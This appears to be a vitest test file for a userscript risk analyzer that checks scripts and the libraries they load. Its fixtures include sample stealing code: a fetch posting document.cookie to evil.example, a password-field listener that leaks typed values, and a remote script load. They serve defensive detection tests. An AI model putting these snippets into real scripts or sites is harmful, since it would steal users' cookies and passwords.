import { describe, expect, test } from "vitest";
import type { LibraryFile } from "./analysis-result.ts";
import { analyzeScript } from "./analyze-script.ts";
import { userscript } from "./testing/find-in.ts";

const OWN = "https://cdn.jsdelivr.net/npm/own-tools@1.2.3/tools.js";
const CURATED = "https://cdnjs.cloudflare.com/ajax/libs/localizejs/1.0.0/localize.js";
const script = (body: string, ...lines: readonly string[]) =>
	userscript(["match https://shop.example/*", ...lines], body);
const rate = (body: string, text: string, address = OWN, others: readonly LibraryFile[] = []) =>
	analyzeScript({ code: script(body, `require ${address}`), libraries: [{ address, text }, ...others] });
const POST = "fetch('https://evil.example/c', { method: 'POST', body: document.cookie });";

describe("libraries of a script", () => {
	test.each([
		["by itself", "1;", POST],
		[
			"when a field changes",
			"1;",
			"document.querySelector('input[type=password]').addEventListener('change', (event) => { new Image().src = 'https://evil.example/?' + event.target.value; });",
		],
		[
			"in what the script calls",
			"tools.show('Hello');",
			`var tools = { show(text) { document.title = text; ${POST} } };`,
		],
		[
			"with what the script gives it",
			"tools.keep(document.cookie);",
			"var tools = { keep: (text) => fetch('https://evil.example/' + text) };",
		],
		[
			"inside a module for every loader",
			"1;",
			`(function (root, factory) { if (typeof define === 'function' && define.amd) define(factory); else root.tools = factory(); })(this, function () { ${POST} return {}; });`,
		],
	])("one that steals %s makes it High, and is named", (_, body, text) => {
		const { risk_level, vulnerabilities, capabilities } = rate(body, text);
		expect(risk_level).toBe("red");
		const [worst] = vulnerabilities;
		expect(worst).toMatchObject({ line: 4, column: 1 });
		expect(worst?.description).toMatch(/^In the library tools\.js of cdn\.jsdelivr\.net: .*evil\.example/);
		expect(capabilities.libraries).toEqual([
			{ address: OWN, state: "checked", name: null, reason: null, line: 4, column: 1 },
		]);
	});

	test.each([
		[
			"shows text",
			"tools.note('Hello');",
			"var tools = { note(text) { const box = document.createElement('p'); box.textContent = text; document.body.append(box); } };",
		],
		[
			"computes",
			"document.title = tools.sum([1, 2]);",
			"(function (root) { root.tools = { sum: (list) => list.reduce((sum, one) => sum + one, 0) }; })(this);",
		],
		[
			"waits for elements",
			"when('.ad', (node) => node.remove());",
			"function when(selector, act) { new MutationObserver(() => document.querySelectorAll(selector).forEach(act)).observe(document, { childList: true, subtree: true }); }",
		],
	])("a harmless one that %s leaves it Low", (_, body, text) => {
		expect(rate(body, text)).toMatchObject({ risk_level: "green", vulnerabilities: [] });
		expect(analyzeScript({ code: script(body, `require ${OWN}`) }).risk_level).toBe("amber");
	});

	test("the steps of a path name the library", () => {
		const { vulnerabilities } = rate(
			"tools.keep(document.cookie);",
			"var tools = { keep: (text) => fetch('https://evil.example/' + text) };",
		);
		const places = vulnerabilities[0]?.path.map(({ description, line }) => `${line} ${description}`) ?? [];
		expect(places[0]).toMatch(/^6 /);
		expect(places.at(-1)).toMatch(/^4 .*\(in tools\.js of cdn\.jsdelivr\.net\)$/);
	});

	test.each([
		["the script", "LOADS", "PADDING"],
		["a library", "1;", "LOADS"],
	])("what %s does alone stays High in a program that is so long that places are joined", (_, body, text) => {
		const fill = (code: string) =>
			code
				.replace(
					"LOADS",
					"const s = document.createElement('script'); s.src = 'https://evil.example/a.js'; document.body.append(s);",
				)
				.replace("PADDING", "1;");
		const second = "https://cdn.jsdelivr.net/npm/second@1.0.0/second.js";
		const { risk_level } = analyzeScript({
			code: script(fill(body), `require ${OWN}`, `require ${second}`),
			libraries: [
				{ address: OWN, text: fill(text) },
				{ address: second, text: `/*${"x".repeat(70_000)}*/` },
			],
		});
		expect(risk_level).toBe("red");
	});

	test.each([
		["cannot be parsed", "var (", "its code cannot be read by this check"],
		["is a module", "import x from './y.js'; export default x;", "its code cannot be read by this check"],
		["is too large", `/*${"x".repeat(4 * 1024 * 1024)}*/`, "script and libraries together are larger than 4 MB"],
	])("one that %s stays not checked, with the reason", (_, text, reason) => {
		const { risk_level, vulnerabilities, capabilities } = rate("1;", text);
		expect(risk_level).toBe("amber");
		expect(vulnerabilities.find(({ type }) => type === "unchecked-library")?.description).toBe(
			`Runs code that was not checked (${OWN}): ${reason}.`,
		);
		expect(capabilities.libraries).toMatchObject([{ state: "not-checked", reason }]);
	});

	test("one that could not be loaded stays not checked, with the reason of the loader", () => {
		const code = script("1;", `require ${OWN}`);
		const { vulnerabilities, capabilities, summary } = analyzeScript({
			code,
			libraries: [{ address: OWN, problem: "its server responded 404" }],
		});
		expect(vulnerabilities).toMatchObject([
			{
				type: "unchecked-library",
				severity: "medium",
				description: `Runs code that was not checked (${OWN}): its server responded 404.`,
			},
		]);
		expect(capabilities.libraries).toMatchObject([{ state: "not-checked", reason: "its server responded 404" }]);
		expect(summary).toContain("what libraries and servers deliver was not checked");
	});

	test("a file that differs from its checksum is a finding of its own, also of a known publisher", () => {
		const address = `${CURATED}#sha256=${"a".repeat(64)}`;
		const { risk_level, vulnerabilities } = analyzeScript({
			code: script("1;", `require ${address}`),
			libraries: [{ address, problem: "it differs from its checksum", differs: true }],
		});
		expect(risk_level).toBe("amber");
		expect(vulnerabilities[0]?.description).toContain("is not the file that its checksum names");
	});

	test("one that others answer for is rated by itself: an attack counts, a remark does not", () => {
		const doubtful = "window.run = (text) => eval(text);";
		expect(rate("run(location.hash);", doubtful, CURATED).risk_level).toBe("green");
		expect(rate("1;", `${doubtful}\n${POST}`, CURATED).risk_level).toBe("red");
		expect(rate("1;", doubtful, OWN).risk_level).toBe("amber");
	});

	test("code resources are rated too, and files that are no code are not", () => {
		const code = script("1;", `resource lib ${OWN}`, "resource style https://a.example/x.css");
		const { risk_level, vulnerabilities } = analyzeScript({
			code,
			libraries: [
				{ address: OWN, text: POST },
				{ address: "https://a.example/x.css", text: POST },
			],
		});
		expect(risk_level).toBe("red");
		expect(vulnerabilities.filter(({ severity }) => severity === "critical")).toHaveLength(1);
	});

	test("files that no line names change nothing, and the input order decides nothing", () => {
		const code = script("tools.keep(document.cookie);", `require ${OWN}`, `require ${CURATED}`);
		const files: LibraryFile[] = [
			{ address: OWN, text: "var tools = { keep: (text) => fetch('https://evil.example/' + text) };" },
			{ address: CURATED, text: "1;" },
		];
		const result = analyzeScript({ code, libraries: files });
		expect(analyzeScript({ code, libraries: files.toReversed() })).toEqual(result);
		expect(analyzeScript({ code: script("1;"), libraries: files })).toMatchObject({ risk_level: "green" });
	});

	test("says of each whether it was read", () => {
		const JQUERY = "https://code.jquery.com/jquery-3.7.1.min.js";
		const { capabilities } = analyzeScript({ code: script("1;", `require ${JQUERY}`, `require ${OWN}`) });
		expect(capabilities.libraries).toEqual([
			{ address: JQUERY, state: "known", name: "jQuery 3.7.1", reason: null, line: 4, column: 1 },
			{ address: OWN, state: "not-read", name: null, reason: null, line: 5, column: 1 },
		]);
		expect(analyzeScript({ code: script("1;") }).capabilities).not.toHaveProperty("libraries");
	});
});
